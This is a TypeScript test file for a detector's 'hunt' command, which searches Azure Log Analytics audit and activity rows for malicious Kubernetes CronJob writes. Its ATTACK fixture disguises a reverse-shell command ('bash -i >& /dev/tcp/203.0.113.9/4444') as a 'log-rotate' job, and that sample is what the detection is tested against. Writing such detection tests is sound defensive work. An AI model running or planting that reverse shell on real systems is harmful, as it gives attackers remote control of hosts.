import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { LogAnalyticsQuery } from '../../src/azure/log-query-client.js';
import { runHunt, type HuntOptions } from '../../src/cli/hunt-command.js';
import { FakeLogQuery, WORKSPACE_ID } from '../fakes/fake-log-query.js';
import { generateTestCertificate, trustPolicy, type TestCertificate } from '../fakes/tls.js';
import { auditEvent, cronJobBody, podSpec } from '../helpers/audit.js';
import { staticCredential } from '../helpers/azure-env.js';
import { captureIo } from '../helpers/cli.js';
import { activityRecord } from '../helpers/detector.js';
import { aksAuditRow, azureActivityRow } from '../helpers/shapes.js';
import { REPO_ROOT } from '../helpers/shared.js';
import { join } from 'node:path';

const NOW = new Date('2025-03-06T12:00:00.000Z');
let certificate: TestCertificate;
let fake: FakeLogQuery;

const ATTACK = auditEvent({
  name: 'log-rotate',
  requestObject: cronJobBody(
    podSpec({ image: 'alpine:3.20', command: ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] }),
  ),
});

/** An AKSAuditAdmin row of a harmless Job write at `time`, with its own audit id. */
function benignRow(time: string, i: number): Record<string, unknown> {
  const event = {
    ...auditEvent({
      resource: 'jobs',
      name: `backup-${i}`,
      requestObject: {
        kind: 'Job',
        spec: {
          template: { spec: { containers: [{ name: 'b', image: 'contosoacr.azurecr.io/backup:1' }] } },
        },
      },
    }),
    auditID: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
  };
  return { ...aksAuditRow(event), TimeGenerated: time };
}

beforeAll(async () => {
  certificate = await generateTestCertificate();
}, 30_000);
beforeEach(async () => {
  fake = await FakeLogQuery.start(certificate);
});
afterAll(async () => {
  await fake?.server.close();
});

async function hunt(extra: Partial<HuntOptions> = {}): Promise<{
  code: number;
  rows: { FindingId: string; TimeGenerated: string; WorkloadName: string | null; Operation: string }[];
  stderr: string;
  client: LogAnalyticsQuery;
}> {
  const io = captureIo();
  const client = new LogAnalyticsQuery({
    credential: staticCredential,
    workspaceId: WORKSPACE_ID,
    endpoint: fake.endpoint,
    additionalPolicies: [trustPolicy(certificate)],
  });
  const code = await runHunt(
    {
      workspace: WORKSPACE_ID,
      days: 3,
      tables: [],
      maxRows: 10_000,
      sliceHours: 24,
      narrow: true,
      format: 'jsonl',
      rules: [join(REPO_ROOT, 'rules')],
      ...extra,
    },
    io,
    { now: () => NOW, connect: async () => client },
  );
  await new Promise((r) => setImmediate(r));
  const { stdout: text, stderr } = io.written();
  return {
    code,
    rows:
      text.trim() === ''
        ? []
        : text
            .trim()
            .split('\n')
            .map((l) => JSON.parse(l)),
    stderr,
    client,
  };
}

describe('hunt against a local query API, with the real LogsQueryClient', () => {
  it("pages through every table one day at a time and finds what the rows hold, at the events' own time", async () => {
    fake.add('AKSAuditAdmin', [
      benignRow('2025-03-03T13:00:00.000Z', 1),
      { ...aksAuditRow(ATTACK), TimeGenerated: '2025-03-04T09:15:27.452Z' },
      benignRow('2025-03-06T11:00:00.000Z', 2),
    ]);
    const activity = activityRecord('Microsoft.ContainerService/managedClusters/batch/cronjobs/write', {
      time: '2025-03-05T08:00:00.1234567Z',
    });
    fake.add('AzureActivity', [azureActivityRow(activity, { asText: true })]);
    fake.add('AzureDiagnostics', []);
    const { code, rows, stderr } = await hunt();
    expect(fake.violations).toEqual([]);
    expect(code).toBe(0);
    expect(rows.map((r) => [r.Operation, r.TimeGenerated]).sort()).toEqual([
      ['Microsoft.ContainerService/managedClusters/batch/cronjobs/write', '2025-03-05T08:00:00.1234567Z'],
      ['create batch/cronjobs', '2025-03-04T09:15:27.431220Z'],
    ]);
    // Three days in 24-hour windows: three queries for each of the three tables that exist.
    expect(fake.queries.filter((q) => q.table === 'AKSAuditAdmin').map((q) => [q.start, q.end])).toEqual([
      ['2025-03-03T12:00:00.000Z', '2025-03-04T12:00:00.000Z'],
      ['2025-03-04T12:00:00.000Z', '2025-03-05T12:00:00.000Z'],
      ['2025-03-05T12:00:00.000Z', '2025-03-06T12:00:00.000Z'],
    ]);
    expect(fake.queries.every((q) => q.take === 10_001 && q.prefer.includes('wait=600'))).toBe(true);
    expect(fake.queries.find((q) => q.table === 'AzureActivity')?.text).toContain(
      '| where OperationNameValue has "batch"',
    );
    expect(fake.queries.find((q) => q.table === 'AKSAuditAdmin')?.text).toContain('in~ ("jobs", "cronjobs")');
    expect(stderr).toContain(
      `Hunted workspace ${WORKSPACE_ID} from 2025-03-03T12:00:00.000Z to 2025-03-06T12:00:00.000Z (3 days).`,
    );
    expect(stderr).toContain(
      'Rows read: 4 (AzureActivity 1, AKSAuditAdmin 3, AzureDiagnostics 0) in 10 queries.',
    );
    expect(stderr).toContain('Not in this workspace (skipped): AKSAudit.');
    expect(stderr).toMatch(
      /Queries sent, per table[\s\S]*AKSAuditAdmin\n\s+\| where TimeGenerated >= datetime\(2025-03-03T12:00:00.000Z\)/,
    );
  });

  it('splits a window whose answer is over the row cap, says so, and reads every row exactly once', async () => {
    fake.add('AKSAuditAdmin', [
      ...Array.from({ length: 5 }, (_, i) => benignRow(`2025-03-04T0${i}:30:00.000Z`, i)),
      { ...aksAuditRow(ATTACK), TimeGenerated: '2025-03-04T09:15:27.452Z' },
    ]);
    const { code, rows, stderr } = await hunt({ tables: ['AKSAuditAdmin'], maxRows: 2 });
    expect(code).toBe(0);
    expect(rows.map((r) => r.WorkloadName)).toEqual(['log-rotate']);
    expect(stderr).toContain('Rows read: 6 (AKSAuditAdmin 6)');
    expect(stderr).toMatch(/Split \d+ time window\(s\) whose answer was over the query API's caps/);
    expect(stderr).toContain(
      'AKSAuditAdmin 2025-03-03T12:00:00.000Z..2025-03-04T12:00:00.000Z returned more than 2 rows: split in two',
    );
  });

  it('reports a window it cannot split below a minute with its rows still read', async () => {
    fake.add(
      'AKSAuditAdmin',
      Array.from({ length: 3 }, (_, i) => benignRow('2025-03-04T00:00:00.000Z', i)),
    );
    const { code, stderr } = await hunt({ tables: ['AKSAuditAdmin'], maxRows: 2 });
    expect(code).toBe(3);
    expect(stderr).toMatch(
      /returned more than 2 rows in a window of \d+ s; only the first 2 rows were read \(raise --max-rows\)/,
    );
  });

  it('waits out a throttled (429) answer as Retry-After asks, and says it was throttled', async () => {
    fake.add('AKSAuditAdmin', [{ ...aksAuditRow(ATTACK), TimeGenerated: '2025-03-04T09:15:27.452Z' }]);
    fake.server.failNext({
      status: 429,
      headers: { 'retry-after': '1' },
      body: { error: { code: 'ThrottledError', message: 'Too many requests' } },
    });
    const { code, rows, stderr, client } = await hunt({ tables: ['AKSAuditAdmin'] });
    expect(code).toBe(0);
    expect(client.throttledResponses).toBe(1);
    expect(rows.map((r) => r.WorkloadName)).toEqual(['log-rotate']);
    expect(stderr).toContain('Throttled 1 time(s) (HTTP 429)');
    // The throttled query was sent again: four requests for three windows.
    expect(fake.server.requests).toHaveLength(4);
  });

  it('keeps going past a window that keeps failing, and reports it (exit 3)', async () => {
    fake.add('AKSAuditAdmin', [{ ...aksAuditRow(ATTACK), TimeGenerated: '2025-03-05T13:15:27.452Z' }]);
    fake.server.failNext({
      status: 400,
      body: { error: { code: 'BadArgumentError', message: 'Query is invalid' } },
    });
    const { code, rows, stderr } = await hunt({ tables: ['AKSAuditAdmin'] });
    expect(code).toBe(3);
    expect(rows.map((r) => r.WorkloadName)).toEqual(['log-rotate']);
    expect(stderr).toContain('AKSAuditAdmin 2025-03-03T12:00:00.000Z..2025-03-04T12:00:00.000Z');
  });

  it('rejects a workspace that is not a workspace id, before any query', async () => {
    const { code, stderr } = await hunt({ workspace: 'my-workspace' });
    expect(code).toBe(2);
    expect(stderr).toContain('--workspace must be the workspace id');
    expect(fake.server.requests).toHaveLength(0);
  });
});

describe('the KQL hunt sends', () => {
  it('compiles against each table with the columns of the table reference, narrowed or not', async () => {
    const { kqlErrors } = await import('../helpers/kusto.js');
    const { HUNT_TABLES, huntQuery } = await import('../../src/hunt/hunt-query.js');
    const window = { start: new Date('2025-03-01T00:00:00Z'), end: new Date('2025-03-02T00:00:00Z') };
    for (const table of HUNT_TABLES)
      for (const narrow of [true, false])
        expect([table, narrow, kqlErrors(huntQuery(table, window, 10_000, narrow))]).toEqual([
          table,
          narrow,
          [],
        ]);
    // The check can fail: a column the table does not have is an error.
    expect(kqlErrors('AKSAudit | where Nope == 1')).not.toEqual([]);
  });
});

describe('kube-job-detector hunt, as a process', () => {
  it('signs in with DefaultAzureCredential, prints the findings and uploads them with the event time', async () => {
    const { chmodSync, mkdirSync, mkdtempSync, writeFileSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const { runCliProcess } = await import('../helpers/cli-process.js');
    const { DCR_ID, FakeIngestion, TEST_TOKEN } = await import('../fakes/fake-ingestion.js');
    const ingestion = await FakeIngestion.start(certificate);
    const work = mkdtempSync(join(tmpdir(), 'kjd-hunt-'));
    mkdirSync(join(work, 'bin'));
    // A stand-in `az` for AzureCliCredential, and the fake's certificate trusted by Node.
    writeFileSync(
      join(work, 'bin', 'az'),
      `#!/bin/sh\necho '{"accessToken":"${TEST_TOKEN}","expires_on":${Math.floor(Date.now() / 1000) + 3600},"tokenType":"Bearer"}'\n`,
    );
    chmodSync(join(work, 'bin', 'az'), 0o755);
    writeFileSync(join(work, 'ca.pem'), certificate.cert);
    const eventTime = new Date(Date.now() - 3_600_000).toISOString();
    const event = { ...ATTACK, requestReceivedTimestamp: eventTime, stageTimestamp: eventTime };
    fake.add('AKSAuditAdmin', [{ ...aksAuditRow(event), TimeGenerated: eventTime }]);
    const { code, stdout, stderr } = await runCliProcess(
      [
        'hunt',
        '--workspace',
        WORKSPACE_ID,
        '--endpoint',
        fake.endpoint,
        '--table',
        'AKSAuditAdmin',
        '--days',
        '2',
        '--format',
        'jsonl',
        '--upload',
        '--dead-letter-dir',
        join(work, 'dead'),
      ],
      {
        ...process.env,
        PATH: `${join(work, 'bin')}:${process.env['PATH'] ?? ''}`,
        AZURE_TOKEN_CREDENTIALS: 'AzureCliCredential',
        NODE_EXTRA_CA_CERTS: join(work, 'ca.pem'),
        LOGS_INGESTION_ENDPOINT: ingestion.url,
        LOGS_INGESTION_DCR_IMMUTABLE_ID: DCR_ID,
        DEADLETTER_CONTAINER_URL: '',
      },
      work,
    );
    await ingestion.server.close();
    expect(fake.violations).toEqual([]);
    expect(ingestion.violations).toEqual([]);
    expect(ingestion.rows.map((r) => [r['WorkloadName'], r['TimeGenerated']])).toEqual([
      ['log-rotate', eventTime],
    ]);
    expect([code, stderr]).toEqual([
      0,
      expect.stringContaining('Rows read: 1 (AKSAuditAdmin 1) in 2 queries.'),
    ]);
    expect(
      stdout
        .trim()
        .split('\n')
        .map((l) => (JSON.parse(l) as { WorkloadName: string }).WorkloadName),
    ).toEqual(['log-rotate']);
  });
});
